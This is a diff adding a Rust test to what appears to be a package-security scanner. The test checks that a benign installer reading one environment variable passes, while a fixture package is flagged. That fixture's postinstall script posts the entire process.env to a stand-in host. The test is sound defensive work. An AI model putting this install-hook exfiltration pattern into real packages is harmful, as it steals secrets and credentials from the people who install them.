@@ -1727,3 +1727,32 @@ fn a_keylogger_is_stopped_and_a_hotkey_library_is_not() {
         report(&analysis)
     );
 }
+
+/// `const env = process.env`: a variable read through the alias is one variable (an
+/// installer picking its platform), the alias sent whole is the whole environment.
+#[test]
+fn an_alias_of_the_environment_reads_one_variable_or_sends_all() {
+    let installer = airlock_test::PackageBuilder::new("platform-fetch", "1.0.0")
+        .script("install", "node install.js")
+        .file(
+            "install.js",
+            "const https = require('https');\nconst env = process.env;\nconst arch = env.npm_config_arch || process.arch;\nhttps.get('https://github.com/o/r/releases/download/v1/lib-' + arch + '.tar.br');\n",
+        )
+        .build();
+    let analysis = analyse(&installer);
+    assert!(
+        !rules_of(&analysis).contains(&"exfil-environment".to_owned()),
+        "{}",
+        report(&analysis)
+    );
+
+    let stealer = airlock_test::PackageBuilder::new("env-post", "1.0.0")
+        .script("postinstall", "node index.js")
+        .file(
+            "index.js",
+            "const https = require('https');\nconst env = process.env;\nconst req = https.request({ hostname: 'x.example.invalid', method: 'POST' });\nreq.end(JSON.stringify(env));\n",
+        )
+        .build();
+    let analysis = check_blocked(&stealer, &[Code::DataExfiltration]);
+    assert_rule(&analysis, "exfil-environment");
+}
